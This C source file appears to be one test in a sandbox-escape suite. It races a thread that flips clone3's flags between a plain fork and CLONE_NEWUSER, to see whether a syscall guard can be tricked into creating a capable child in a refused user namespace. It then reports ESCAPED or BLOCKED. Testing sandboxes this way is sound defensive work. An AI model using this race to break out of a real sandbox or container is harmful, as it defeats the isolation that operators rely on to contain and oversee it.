/* TOCTOU on clone3: its flags live in guest memory (struct clone_args). A thread
 * flips them between a plain fork and CLONE_NEWUSER (which the kernel grants any
 * unprivileged process) while the main thread calls clone3; a child that holds
 * capabilities is in a user namespace the guard refused. */
#include "escape.h"
#include <pthread.h>
#include <sched.h>
#include <sys/wait.h>
#include <linux/capability.h>
static volatile unsigned long long args[11];
static volatile int stop;
static void *flipper(void *unused) {
    (void)unused;
    while (!stop) {
        args[0] = CLONE_NEWUSER;
        args[0] = 0;
    }
    return 0;
}
int main(int argc, char **argv) {
    setup(argc, argv);
    args[4] = SIGCHLD;  /* exit_signal */
    pthread_t thread;
    pthread_create(&thread, 0, flipper, 0);
    int children = 0, refused = 0;
    for (int i = 0; i < 300; i++) {
        long pid = raw2(SYS_clone3, (long)args, 88);
        if (pid == 0) {
            struct __user_cap_header_struct header = {_LINUX_CAPABILITY_VERSION_3, 0};
            struct __user_cap_data_struct data[2] = {{0}};
            raw2(SYS_capget, &header, data);
            raw1(SYS_exit_group, data[0].effective != 0 ? 1 : 0);
        }
        if (pid < 0) { refused++; continue; }
        children++;
        int status = 0;
        raw4(SYS_wait4, pid, &status, 0, 0);
        if (WIFEXITED(status) && WEXITSTATUS(status) == 1) {
            printf("ESCAPED clone3 race: a child held capabilities in a new user namespace after %d tries\n", i);
            escapes++;
            break;
        }
    }
    stop = 1;
    pthread_join(thread, 0);
    if (!escapes) printf("BLOCKED clone3 race: %d plain children, %d refused, none in a new user namespace\n", children, refused);
    return verdict();
}
